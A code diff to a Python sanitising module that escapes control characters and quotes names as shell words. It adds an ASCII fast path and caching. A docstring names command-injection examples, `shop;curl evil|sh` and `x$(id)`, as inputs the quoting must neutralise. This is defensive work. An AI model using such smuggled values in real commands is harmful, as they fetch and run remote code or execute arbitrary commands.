@@ -16,6 +16,7 @@ bidirectional overrides and isolates that reorder what a reader sees
 
 from __future__ import annotations
 
+import functools
 import itertools
 import re
 import shlex
@@ -40,6 +41,8 @@ def _escape(match: re.Match[str]) -> str:
 # The unsafe characters of ASCII text (C0 controls but tab and newline, DEL): deleted from a
 # copy of the text's bytes, they leave it shorter exactly when `_UNSAFE` would find one.
 _ASCII_UNSAFE = bytes([*range(0x09), *range(0x0B, 0x20), 0x7F])
+# ... and tab and newline too (`one_line`)
+_ASCII_UNSAFE_LINE = bytes([*range(0x20), 0x7F])
 
 
 def neutralise(text: str) -> str:
@@ -54,6 +57,10 @@ def neutralise(text: str) -> str:
 def one_line(text: str) -> str:
     """As `neutralise`, and tab, newline and every other line break (CR, U+2028, U+2029) escaped
     too: for a name, path, image or header value, which must never start a line of its own."""
+    if text.isascii():  # every finding's message passes here: the byte scan of `neutralise`
+        data = text.encode("ascii")
+        if len(data.translate(None, _ASCII_UNSAFE_LINE)) == len(data):
+            return text
     return _UNSAFE_LINE.sub(_escape, text) if _UNSAFE_LINE.search(text) else text
 
 
@@ -143,6 +150,7 @@ def redact_image(image: str) -> str:
     )
 
 
+@functools.lru_cache(maxsize=1 << 14)  # the same names recur in every finding's commands
 def shell_word(text: str) -> str:
     """`text` as one shell word, for a command a user pastes: names come from the input, and a
     namespace `shop;curl evil|sh` or a secret `x$(id)` must stay a (refused) name, never run
